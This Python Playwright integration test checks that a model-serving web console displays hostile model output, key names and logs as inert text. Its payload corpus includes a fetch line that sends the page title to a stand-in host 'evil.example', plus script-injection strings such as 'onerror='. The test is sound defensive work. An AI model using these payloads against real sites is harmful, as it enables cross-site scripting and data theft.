"""What models, keys and logs say is shown as text, whatever it says. A real Chromium looks."""

from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from hostler.testing.cluster import Cluster
from tests.integration.console.browser import browsing, chromium, signed_in
from tests.integration.console.steps import go, talk

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]

# What runs, and what makes it run: every one of the first in every one of the second.
RUNS = ("fetch('//evil.example/'+document.title)", "document.title='owned'", "window.owned=1")
AROUND = Path(__file__).with_name("hostile.txt").read_text().splitlines()
SHAPES = (str, str.upper)
CORPUS = [
    shape(around).replace("{}", runs) for around in AROUND for runs in RUNS for shape in SHAPES
]


@pytest.fixture
def cluster() -> Cluster:
    chromium()
    root = Path(__file__).parents[3]
    return Cluster(
        '[[models]]\nname = "parrot"\ntype = "llm"\nengine = "python"\n[models.params]\n'
        f'worker_class = "tests.integration.console.parrot:Parrot"\npython_path = "{root}"\n'
    )


def test_F114_F115_hostile_answers_names_and_logs_run_nothing_and_ask_nobody(
    cluster: Cluster,
) -> None:
    assert len(CORPUS) >= 300
    asked: list[str] = []
    with cluster, browsing() as browser:
        ours = urlsplit(cluster.url).netloc
        for text in CORPUS[::10]:
            cluster.json("POST", "/api/v1/keys", {"name": text[:100], "scopes": ["inference"]})
        with signed_in(browser, cluster) as page:
            page.on("request", lambda request: asked.append(request.url))
            go(page, "Playground")
            for number in range(0, len(CORPUS), 50):
                text = "\n".join(CORPUS[number : number + 50])
                talk(page, text)
                said = page.locator(".said.assistant").nth(number // 50)
                expect(said).to_contain_text(CORPUS[number].replace("\x00", "\ufffd"))
            go(page, "Keys")
            expect(page.get_by_text(CORPUS[0]).first).to_be_visible()
            go(page, "Requests")
            go(page, "Models")
            page.get_by_role("button", name="Logs parrot").click()
            expect(page.get_by_role("dialog")).to_contain_text("onerror=")
            made = "main img, main script, main iframe, main a[href^=javascript]"
            assert page.evaluate(f"document.querySelectorAll('{made}').length") == 0
            assert page.evaluate("window.owned") is None
            assert page.title() == "Models · Hostler"
    assert {urlsplit(url).netloc for url in asked} == {ours}
